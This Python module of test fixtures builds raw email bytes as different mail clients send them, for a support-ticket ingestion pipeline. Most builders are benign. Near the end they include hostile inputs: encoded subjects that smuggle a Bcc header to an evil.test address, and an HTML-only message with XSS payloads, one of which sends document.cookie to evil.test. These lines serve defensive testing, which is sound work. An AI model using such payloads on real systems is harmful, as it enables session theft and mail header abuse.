"""Raw inbound mail as the support addresses receive it: bytes, written by hand after real messages.

Each builder returns the exact bytes an MTA pipe or a relay webhook hands over, shaped like the client
that wrote it: Gmail (multipart/alternative, "On ... wrote:"), Outlook (CRLF, Thread-Index, TNEF
correlator, "From: ... Sent: ..." quote block, winmail.dat), Apple Mail and iPhone ("> On ..., at ...
wrote:"), Thunderbird (format=flowed, Polish "W dniu ... pisze:"), the Gmail Android app (attribution
wrapped over two lines), a forward as a message/rfc822 attachment, automatic replies, a Postfix DSN, and
the hostile or broken input the pipeline must survive. Builders are deterministic: the same call gives
the same bytes (that is what a duplicate delivery looks like). Defaults write as Alice of Acme to Acme's
support address about ACME-000001; every test passes what it needs.
"""

import base64
import random

ALICE = "Alice Andrzejewska <alice@acme.test>"
ARTHUR = "Arthur Malinowski <arthur@acme.test>"
SUPPORT = "Acme Support <support@acme.portal.test>"
CRITICAL = "critical@portal.test"
TOKEN = "[ACME-000001]"
SOFT = " "  # format=flowed: a line ending in a space continues on the next
POLISH = "Dzień dobry, od rana wiadomości do Onetu wracają z błędem 421. Zażółć gęślą jaźń. Łukasz Żółkiewski"


def _lines(text: str, *, crlf: bool = False) -> bytes:
    data = text.lstrip("\n").encode("utf-8")
    return data.replace(b"\n", b"\r\n") if crlf else data


def _thread(in_reply_to: str | None, references: str | None) -> str:
    out = f"In-Reply-To: {in_reply_to}\n" if in_reply_to else ""
    return out + (f"References: {references}\n" if references else "")


def _b64(data: bytes) -> str:
    encoded = base64.b64encode(data).decode()
    return "\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


def gmail_reply(
    *,
    frm=ALICE,
    to=SUPPORT,
    cc="",
    subject=f"Re: {TOKEN} Bounces from Gmail since 9:00",
    message_id="<CAJ8kR3p+Vq2xZ=Lr5wUq0m9nFh1TQ@mail.gmail.com>",
    in_reply_to=None,
    references=None,
    body="the bounces stopped at 11:20 but started again at 11:45.",
) -> bytes:
    return _lines(f"""
Delivered-To: support@acme.portal.test
Received: from mail-ej1-f41.google.com (mail-ej1-f41.google.com [209.85.218.41])
	by mx.portal.test (Postfix) with ESMTPS id 4Xk2mN0qRzz9vB
	for <support@acme.portal.test>; Tue, 24 Nov 2026 10:14:03 +0100 (CET)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=acme.test; s=google; t=1795513443;
	h=to:subject:message-id:date:from:in-reply-to:references:mime-version;
	bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=; b=dGVzdCBzaWduYXR1cmU=
MIME-Version: 1.0
{_thread(in_reply_to, references)}From: {frm}
Date: Tue, 24 Nov 2026 10:13:51 +0100
Message-ID: {message_id}
Subject: {subject}
To: {to}
{f"Cc: {cc}{chr(10)}" if cc else ""}Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

Hi,

{body}

Thanks,
Alice

On Tue, 24 Nov 2026 at 09:58, Acme Support <support@acme.portal.test> wrote:

> ACME-000001 =C2=B7 Acme =C2=B7 Non-critical =C2=B7 In progress
>
> Could you send the bounce log?
>

--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr"><div>Hi,</div><div><br></div><div>{body}</div><div><br></div>=
<div>Thanks,</div><div>Alice</div></div><br><div class=3D"gmail_quote"><div =
dir=3D"ltr" class=3D"gmail_attr">On Tue, 24 Nov 2026 at 09:58, Acme Support &l=
t;<a href=3D"mailto:support@acme.portal.test">support@acme.portal.test</a>&gt;=
 wrote:<br></div><blockquote class=3D"gmail_quote" style=3D"margin:0px 0px 0p=
x 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Could you se=
nd the bounce log?</blockquote></div>

--000000000000a1b2c3d4e5f60718--
""")


def outlook_reply(
    *,
    frm=ARTHUR,
    to='"support@acme.portal.test" <support@acme.portal.test>',
    subject=f"RE: {TOKEN} Bounces from Gmail since 9:00",
    message_id="<AM9PR03MB7218C4E1D5F2A3B4C5D6E7F8A9B0C1D2@AM9PR03MB7218.eurprd03.prod.outlook.com>",
    in_reply_to=None,
    references=None,
    log=b"Nov 24 09:12:01 mx postfix/smtp[811]: 421 4.7.0 try later\n",
) -> bytes:
    """Exchange Online, CRLF throughout: a log attached, and the winmail.dat Outlook adds."""
    return _lines(
        f"""
Received: from AM9PR03MB7218.eurprd03.prod.outlook.com ([fe80::1c2d:3e4f:5a6b:7c8d])
 by AM9PR03MB7218.eurprd03.prod.outlook.com ([fe80::1c2d:3e4f:5a6b:7c8d%4]) with mapi id 15.20.8158.024;
 Tue, 24 Nov 2026 09:21:07 +0000
From: {frm}
To: {to}
Subject: {subject}
Thread-Topic: {TOKEN} Bounces from Gmail since 9:00
Thread-Index: AQHbPk3vX2m1c0yGkE6bJ9x7a1QbQrKmN0pA
Date: Tue, 24 Nov 2026 09:21:07 +0000
Message-ID: {message_id}
{_thread(in_reply_to, references)}Accept-Language: pl-PL, en-US
Content-Language: pl-PL
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: <AM9PR03MB7218C4E1D5F2A3B4C5D6E7F8A9B0C1D2@AM9PR03MB7218.eurprd03.prod.outlook.com>
x-ms-publictraffictype: Email
Content-Type: multipart/mixed; boundary="_004_AM9PR03MB7218C4E1D5F2A3B4_"
MIME-Version: 1.0

--_004_AM9PR03MB7218C4E1D5F2A3B4_
Content-Type: multipart/alternative; boundary="_000_AM9PR03MB7218C4E1D5F2A3B4_"

--_000_AM9PR03MB7218C4E1D5F2A3B4_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Hello,

The MTA log from this morning is attached.

Regards,
Arthur

From: Acme Support <support@acme.portal.test>
Sent: Tuesday, November 24, 2026 9:58 AM
To: Arthur Malinowski <arthur@acme.test>
Subject: {TOKEN} Bounces from Gmail since 9:00

Could you send the bounce log?

--_000_AM9PR03MB7218C4E1D5F2A3B4_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html xmlns:o=3D"urn:schemas-microsoft-com:office:office"><head><meta http-equiv=3D"Content-Type" content=
=3D"text/html; charset=3Dus-ascii"><style><!-- p.MsoNormal {{margin:0cm;}} --></style></head>
<body lang=3D"PL"><div class=3D"WordSection1"><p class=3D"MsoNormal">Hello,</p><p class=3D"MsoNormal">The =
MTA log from this morning is attached.</p><p class=3D"MsoNormal">Regards,<br>Arthur</p>
<div style=3D"border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class=3D"MsoNormal">=
<b>From:</b> Acme Support &lt;support@acme.portal.test&gt;<br><b>Sent:</b> Tuesday, November 24, 2026 9:5=
8 AM<br><b>Subject:</b> {TOKEN} Bounces from Gmail since 9:00</p></div>
<p class=3D"MsoNormal">Could you send the bounce log?</p></div></body></html>

--_000_AM9PR03MB7218C4E1D5F2A3B4_--

--_004_AM9PR03MB7218C4E1D5F2A3B4_
Content-Type: text/plain; name="mta.log"
Content-Description: mta.log
Content-Disposition: attachment; filename="mta.log"; size={len(log)}
Content-Transfer-Encoding: base64

{_b64(log)}

--_004_AM9PR03MB7218C4E1D5F2A3B4_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Disposition: attachment; filename="winmail.dat"
Content-Transfer-Encoding: base64

eJ8+IjQSAQaQCAAEAAAAAAABAAEAAQeQBgAIAAAA5AQAAAAAAADoAAEIgAcAGAAAAElQTS5NaWNy

--_004_AM9PR03MB7218C4E1D5F2A3B4_--
""",
        crlf=True,
    )


def apple_mail(
    *,
    frm=ALICE,
    to=SUPPORT,
    subject=f"Re: {TOKEN} Which DKIM selector?",
    message_id="<8E1F6B2A-3C4D-4E5F-9A0B-1C2D3E4F5A6B@acme.test>",
    in_reply_to=None,
    references=None,
) -> bytes:
    """Apple Mail: quoted-printable, an inline screenshot, the quote as "> On ..., at ... wrote:"."""
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    return _lines(f"""
From: {frm}
Content-Type: multipart/mixed; boundary="Apple-Mail=_5F1C2D3E-4A5B-6C7D-8E9F-0A1B2C3D4E5F"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))
Subject: {subject}
Date: Tue, 24 Nov 2026 10:40:12 +0100
{_thread(in_reply_to, references)}To: {to}
Message-Id: {message_id}
X-Mailer: Apple Mail (2.3774.600.62)

--Apple-Mail=_5F1C2D3E-4A5B-6C7D-8E9F-0A1B2C3D4E5F
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
	charset=utf-8

Done =E2=80=94 the DKIM selector is s2026. Screenshot of the DNS console =
attached.

Alice

> On 24 Nov 2026, at 10:02, Acme Support <support@acme.portal.test> wrote:
>=20
> Which selector do you use?

--Apple-Mail=_5F1C2D3E-4A5B-6C7D-8E9F-0A1B2C3D4E5F
Content-Disposition: inline;
	filename="Screenshot 2026-11-24 at 10.39.51.png"
Content-Type: image/png;
	x-unix-mode=0644;
	name="Screenshot 2026-11-24 at 10.39.51.png"
Content-Transfer-Encoding: base64

{_b64(png)}
--Apple-Mail=_5F1C2D3E-4A5B-6C7D-8E9F-0A1B2C3D4E5F--
""")


def thunderbird_flowed(
    *,
    frm=ARTHUR,
    to=SUPPORT,
    subject=f"Re: {TOKEN} Odrzucenia z Onetu",
    message_id="<5b0c9a4e-2f1d-4c3b-9e8a-7d6c5b4a3f21@acme.test>",
    in_reply_to=None,
    references=None,
) -> bytes:
    """Thunderbird in Polish: 8-bit UTF-8, format=flowed (soft breaks end in a space)."""
    return _lines(f"""
Message-ID: {message_id}
Date: Tue, 24 Nov 2026 11:05:44 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: {subject}
Content-Language: pl
To: {to}
{_thread(in_reply_to, references)}From: {frm}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Dzień dobry,

po zmianie rekordu SPF wiadomości do Gmaila przechodzą, ale Onet nadal{SOFT}
odrzuca część poczty z kodem 550 5.7.1. Czy możecie sprawdzić reputację{SOFT}
adresu 192.0.2.25?

Pozdrawiam
Arthur

W dniu 24.11.2026 o 10:02, Acme Support pisze:
> Proszę o nagłówki odrzuconej wiadomości.
""")


def iphone(
    *,
    frm=ALICE,
    to=SUPPORT,
    subject=f"Re: {TOKEN} Bounces from Gmail since 9:00",
    message_id="<1F2E3D4C-5B6A-4789-8A9B-0C1D2E3F4A5B@acme.test>",
    in_reply_to=None,
    references=None,
) -> bytes:
    return _lines(f"""
Content-Type: multipart/alternative; boundary=Apple-Mail-7A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D
Content-Transfer-Encoding: 7bit
From: {frm}
Mime-Version: 1.0 (1.0)
Date: Tue, 24 Nov 2026 10:05:18 +0100
Subject: {subject}
Message-Id: {message_id}
{_thread(in_reply_to, references)}To: {to}
X-Mailer: iPhone Mail (22B91)

--Apple-Mail-7A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Still bouncing. I=E2=80=99m calling the Severity 1 line now.

Sent from my iPhone

> On 24 Nov 2026, at 10:02, Acme Support <support@acme.portal.test> wrote:
>=20
> =EF=BB=BFCould you send the bounce log?

--Apple-Mail-7A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<html><head><meta http-equiv=3D"content-type" content=3D"text/html; charset=3Dutf-8"></head><body dir=3D"auto=
">Still bouncing. I=E2=80=99m calling the Severity 1 line now.<br><br><div dir=3D"ltr">Sent from my iPhone</d=
iv><div dir=3D"ltr"><br><blockquote type=3D"cite">On 24 Nov 2026, at 10:02, Acme Support &lt;support@acme.por=
tal.test&gt; wrote:<br><br></blockquote></div><blockquote type=3D"cite"><div dir=3D"ltr">=EF=BB=BFCould you s=
end the bounce log?</div></blockquote></body></html>
--Apple-Mail-7A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D--
""")


def android_gmail(
    *,
    frm=ARTHUR,
    to=SUPPORT,
    subject=f"Re: {TOKEN} Bounces from Gmail since 9:00",
    message_id="<CAF7Yq1d3kN_pZ0wL9gV2mB4xR6tH8sJ1uE5cA3oQ7iW@mail.gmail.com>",
    in_reply_to=None,
    references=None,
) -> bytes:
    """The Gmail app wraps a long attribution line: "... Support, <support@...>" / "wrote:"."""
    return _lines(f"""
MIME-Version: 1.0
{_thread(in_reply_to, references)}From: {frm}
Date: Tue, 24 Nov 2026 12:31:09 +0100
Message-ID: {message_id}
Subject: {subject}
To: {to}
Content-Type: text/plain; charset="UTF-8"

Restarted the MTA, no change.

On Tue, 24 Nov 2026, 10:02 Acme Support, <support@acme.portal.test>
wrote:

> Could you restart the MTA and tell us whether the bounces continue?
>
""")


def forwarded(
    *,
    frm=ALICE,
    to=SUPPORT,
    subject="Fwd: Undelivered Mail Returned to Sender",
    message_id="<CAJ8kR3q+forward-2x9c@mail.gmail.com>",
) -> bytes:
    """A forward as an attachment (Gmail "Forward as attachment"): the message Alice received, whole."""
    return _lines(f"""
MIME-Version: 1.0
From: {frm}
Date: Tue, 24 Nov 2026 13:02:44 +0100
Message-ID: {message_id}
Subject: {subject}
To: {to}
Content-Type: multipart/mixed; boundary="0000000000009c8b7a6f5e4d3c21"

--0000000000009c8b7a6f5e4d3c21
Content-Type: text/plain; charset="UTF-8"

FYI, this is what our users get when they write to onet.pl.

--0000000000009c8b7a6f5e4d3c21
Content-Type: message/rfc822; name="Undelivered Mail Returned to Sender.eml"
Content-Disposition: attachment; filename="Undelivered Mail Returned to Sender.eml"

Return-Path: <>
From: MAILER-DAEMON@mx.acme.test (Mail Delivery System)
To: newsletter@acme.test
Subject: Undelivered Mail Returned to Sender
Date: Tue, 24 Nov 2026 12:58:02 +0100 (CET)
Message-Id: <20261124115802.4Xk9Aa1bC2z9vB@mx.acme.test>
Content-Type: text/plain; charset=us-ascii

<jan.kowalski@onet.pl>: host mx.poczta.onet.pl[213.180.147.146] said:
    550 5.7.1 Message rejected due to local policy (in reply to end of DATA command)

--0000000000009c8b7a6f5e4d3c21--
""")


def outlook_oof(
    *,
    frm=ARTHUR,
    to=SUPPORT,
    subject=f"Automatic reply: {TOKEN} Bounces from Gmail since 9:00",
    message_id="<AM9PR03MB7218OOF0000000000000000000000@AM9PR03MB7218.eurprd03.prod.outlook.com>",
    in_reply_to=None,
    references=None,
) -> bytes:
    """Exchange's out-of-office answer, in Polish (ISO-8859-2)."""
    return _lines(
        f"""
From: {frm}
To: {to}
Subject: {subject}
Thread-Topic: {TOKEN} Bounces from Gmail since 9:00
Thread-Index: AQHbPk3vX2m1c0yGkE6bJ9x7a1QbQrKmN0pAAAABBBB=
Date: Tue, 24 Nov 2026 09:58:09 +0000
Message-ID: {message_id}
{_thread(in_reply_to, references)}Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: arthur@acme.test
X-MS-Exchange-Generated-Message-Source: Mailbox Rules Agent
Content-Type: text/plain; charset="iso-8859-2"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

Dzi=EAkuj=EA za wiadomo=B6=E6. Jestem na urlopie do 1 grudnia.
""",
        crlf=True,
    )


def gmail_vacation(
    *,
    frm=ALICE,
    to=SUPPORT,
    subject=f"Re: {TOKEN} Bounces from Gmail since 9:00",
    message_id="<CAJ8kR3r+vacation-7d1e@mail.gmail.com>",
    in_reply_to=None,
    references=None,
) -> bytes:
    return _lines(f"""
MIME-Version: 1.0
Precedence: bulk
Auto-Submitted: auto-replied
{_thread(in_reply_to, references)}From: {frm}
Date: Tue, 24 Nov 2026 09:58:20 +0100
Message-ID: {message_id}
Subject: {subject}
To: {to}
X-Autoreply: yes
Content-Type: text/plain; charset="UTF-8"

I'm away until 1 December with limited access to email.
""")


def dsn_bounce(
    *,
    original_message_id="<20261124091200.GA811@somewhere-else.test>",
    recipient="alice@acme.test",
    status="5.1.1",
    whole_message=False,
    to="support@portal.test",
) -> bytes:
    """A Postfix delivery status notification about a message we (or someone) sent to ``recipient``."""
    original = f"""Return-Path: <support@portal.test>
Date: Tue, 24 Nov 2026 09:20:29 +0000
From: Email Enterprise Support <support@portal.test>
To: {recipient}
Subject: [ACME-000001] Bounces from Gmail since 9:00 - Reply
Message-ID: {original_message_id}
"""
    if whole_message:
        part = f"Content-Type: message/rfc822\n\n{original}\nCould you send the bounce log?\n"
    else:
        part = f"Content-Description: Undelivered Message Headers\nContent-Type: text/rfc822-headers\n\n{original}"
    return _lines(f"""
Return-Path: <>
Received: by mx.acme.test (Postfix) id 4Xk3Jq1cN5z9vB; Tue, 24 Nov 2026 10:20:31 +0100 (CET)
Date: Tue, 24 Nov 2026 10:20:31 +0100 (CET)
From: MAILER-DAEMON@mx.acme.test (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: {to}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="4Xk3Jq1cN5z9vB.1795513231/mx.acme.test"
Message-Id: <20261124092031.4Xk3Jq1cN5z9vB@mx.acme.test>

This is a MIME-encapsulated message.

--4Xk3Jq1cN5z9vB.1795513231/mx.acme.test
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.acme.test.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<{recipient}>: host mailstore.acme.test[10.0.0.5] said: 550 {status}
    <{recipient}>: Recipient address rejected: User unknown

--4Xk3Jq1cN5z9vB.1795513231/mx.acme.test
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.acme.test
X-Postfix-Queue-ID: 4Xk3Jq1cN5z9vB
X-Postfix-Sender: rfc822; support@portal.test
Arrival-Date: Tue, 24 Nov 2026 10:20:30 +0100 (CET)

Final-Recipient: rfc822; {recipient}
Original-Recipient: rfc822;{recipient}
Action: failed
Status: {status}
Diagnostic-Code: smtp; 550 {status} <{recipient}>: Recipient address rejected:
    User unknown

--4Xk3Jq1cN5z9vB.1795513231/mx.acme.test
{part}
--4Xk3Jq1cN5z9vB.1795513231/mx.acme.test--
""")


def _polish(
    *,
    charset_label: str,
    body: bytes,
    cte: str = "8bit",
    frm=ALICE,
    to=SUPPORT,
    subject="=?windows-1250?Q?B=B3=B9d_421_przy_wysy=B3ce_do_Onetu?=",
    message_id: str,
) -> bytes:
    head = _lines(f"""
From: {frm}
To: {to}
Subject: {subject}
Date: Tue, 24 Nov 2026 08:47:10 +0100
Message-ID: {message_id}
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
Content-Type: text/plain; charset="{charset_label}"
Content-Transfer-Encoding: {cte}

""")
    return head + body + b"\n"


def polish_cp1250(**kw) -> bytes:
    """Outlook in Polish: windows-1250, 8-bit, subject as a windows-1250 encoded-word."""
    kw.setdefault("message_id", "<000001db3e4f$1a2b3c40$4e5f6a70$@acme.test>")
    return _polish(charset_label="windows-1250", body=POLISH.encode("cp1250"), **kw)


def polish_latin2(**kw) -> bytes:
    """An older client: ISO-8859-2, quoted-printable, subject as an ISO-8859-2 encoded-word (base64)."""
    import quopri

    subject = "=?iso-8859-2?B?" + base64.b64encode("Błąd 421 przy wysyłce".encode("iso-8859-2")).decode() + "?="
    kw.setdefault("subject", subject)
    kw.setdefault("message_id", "<20261124084710.7f3a@poczta.acme.test>")
    body = quopri.encodestring(POLISH.encode("iso-8859-2"))
    return _polish(charset_label="iso-8859-2", body=body, cte="quoted-printable", **kw)


def polish_mislabelled(*, label="iso-8859-2", **kw) -> bytes:
    """Written in windows-1250, labelled something else (ISO-8859-2, Latin-1, UTF-8, unknown-8bit)."""
    kw.setdefault("message_id", f"<mislabelled-{label}@acme.test>")
    return _polish(charset_label=label, body=POLISH.encode("cp1250"), **kw)


def polish_raw_header(**kw) -> bytes:
    """Subject and From name as raw 8-bit windows-1250 bytes, not encoded-words (old webmail does that)."""
    head = "From: Łukasz Żółkiewski <alice@acme.test>\nSubject: Błąd 421 przy wysyłce\n".encode("cp1250")
    rest = polish_cp1250(**kw).split(b"\n", 1)[1]  # drop the builder's From line
    rest = b"\n".join(line for line in rest.split(b"\n") if not line.startswith(b"Subject:"))
    return head + rest


BROKEN_SUBJECTS = {
    "unterminated": "=?UTF-8?Q?Problem_z_wysy=C5=82k=C4",
    "bad base64": "=?utf-8?B?UHJvYmxlbSB6IHd5c3nFgmvEhQ?=",
    "unknown charset": "=?x-mac-ce?Q?B=B3=B9d_wysy=B3ki?=",
    "split multibyte": "=?UTF-8?B?QsWC?= =?UTF-8?B?xA==?= =?UTF-8?B?hWQ=?=",
    "glued to text": "Re:=?utf-8?Q?B=C5=82=C4=85d?=[ACME-000001]",
    "garbage in word": "=?utf-8?Q?\x7f\x01?= hello",
}


def broken_subject(kind: str, **kw) -> bytes:
    kw.setdefault("message_id", f"<broken-{kind.replace(' ', '-')}@acme.test>")
    return gmail_reply(subject=BROKEN_SUBJECTS[kind], **kw)


def without_from() -> bytes:
    return _lines("""
To: Acme Support <support@acme.portal.test>
Subject: Who am I?
Date: Tue, 24 Nov 2026 10:00:00 +0100
Message-ID: <no-from-4b1c@unknown.test>
Content-Type: text/plain; charset=utf-8

This message has no From header at all.
""")


def two_froms() -> bytes:
    return _lines("""
From: Alice Andrzejewska <alice@acme.test>
From: Bob Harris <bob@globex.test>
To: Acme Support <support@acme.portal.test>
Subject: Two senders
Date: Tue, 24 Nov 2026 10:00:00 +0100
Message-ID: <two-from-9e2d@acme.test>
Content-Type: text/plain; charset=utf-8

Which of us wrote this?
""")


CRLF_SUBJECTS = {
    "quoted-printable": "=?utf-8?Q?Invoice_question=0D=0ABcc:_x@evil.test?=",
    "base64": "=?utf-8?B?" + base64.b64encode(b"Invoice question\r\nBcc: x@evil.test").decode() + "?=",
    "bare LF": "=?utf-8?Q?Invoice_question=0ABcc:_x@evil.test?=",
}


def crlf_injection(kind: str = "quoted-printable", *, in_from: bool = False, **kw) -> bytes:
    """An encoded-word that decodes to a line break and a Bcc header: in the Subject, or in the From name."""
    kw.setdefault("message_id", f"<crlf-{kind.replace(' ', '-')}{'-from' if in_from else ''}@acme.test>")
    if in_from:
        name = CRLF_SUBJECTS[kind].replace("Invoice_question", "Alice").replace("x@evil.test", "y@evil.test")
        return gmail_reply(frm=f"{name} <alice@acme.test>", subject="Invoice question", **kw)
    return gmail_reply(subject=CRLF_SUBJECTS[kind], **kw)


def enormous(size: int = 30 * 1024 * 1024, **kw) -> bytes:
    """A message of about ``size`` bytes: a short note and one big base64 attachment."""
    head = gmail_reply(body="The full queue dump is attached.", **kw).rsplit(b"--000000000000a1b2c3d4e5f60718--", 1)[0]
    head = head.replace(b"multipart/alternative", b"multipart/mixed", 1)
    part = (
        b'--000000000000a1b2c3d4e5f60718\nContent-Type: application/gzip; name="queue.tar.gz"\n'
        b'Content-Disposition: attachment; filename="queue.tar.gz"\nContent-Transfer-Encoding: base64\n\n'
    )
    line = b"H4sIAAAAAAAAA+3BAQ0AAADCoPdPbQ8HFAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n"
    lines = max(1, (size - len(head) - len(part)) // len(line))
    return head + part + line * lines + b"--000000000000a1b2c3d4e5f60718--\n"


def garbage(seed: int = 20261124, size: int = 4096) -> bytes:
    return random.Random(seed).randbytes(size)


def html_only(
    *,
    frm=ALICE,
    to=SUPPORT,
    subject="DKIM check fails <script>alert(1)</script>",
    message_id="<html-only-3c9f@acme.test>",
) -> bytes:
    return _lines(f"""
From: {frm}
To: {to}
Subject: {subject}
Date: Tue, 24 Nov 2026 10:00:00 +0100
Message-ID: {message_id}
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>p {{ color: red }}</style>
<script>fetch("https://evil.test/?c=" + document.cookie)</script></head>
<body><p>Our <b>DKIM</b> check fails &amp; mail goes to spam.</p>
<img src="x" onerror="alert(document.domain)"><a href="javascript:alert(1)" onclick="steal()">details</a>
<iframe src="https://evil.test/frame"></iframe><svg onload="alert(2)"><circle r="1"/></svg>
<p>Selector: s2026</p></body></html>
""")


def with_attachments(
    files,
    *,
    frm=ALICE,
    to=SUPPORT,
    subject="Logs for the bounces",
    message_id="<attachments-5d2e@acme.test>",
    in_reply_to=None,
    references=None,
) -> bytes:
    """A plain message with ``files``: (filename, content type, bytes) each."""
    parts = "".join(
        f'--b1\nContent-Type: {ctype}; name="{name}"\nContent-Disposition: attachment; filename="{name}"\n'
        f"Content-Transfer-Encoding: base64\n\n{_b64(data)}\n"
        for name, ctype, data in files
    )
    return _lines(f"""
From: {frm}
To: {to}
Subject: {subject}
Date: Tue, 24 Nov 2026 10:00:00 +0100
Message-ID: {message_id}
{_thread(in_reply_to, references)}MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8

The logs are attached.

{parts}--b1--
""")


def plain(
    *,
    frm=ALICE,
    to=SUPPORT,
    subject="Mail to Gmail bounces",
    body="Every message to gmail.com bounces.",
    message_id="<plain-1a2b@acme.test>",
    in_reply_to=None,
    references=None,
    cc="",
    extra="",
) -> bytes:
    """The simplest message; ``extra`` is more header lines ("Name: value\\n")."""
    return _lines(f"""
From: {frm}
To: {to}
{f"Cc: {cc}{chr(10)}" if cc else ""}Subject: {subject}
Date: Tue, 24 Nov 2026 10:00:00 +0100
Message-ID: {message_id}
{_thread(in_reply_to, references)}{extra}MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

{body}
""")
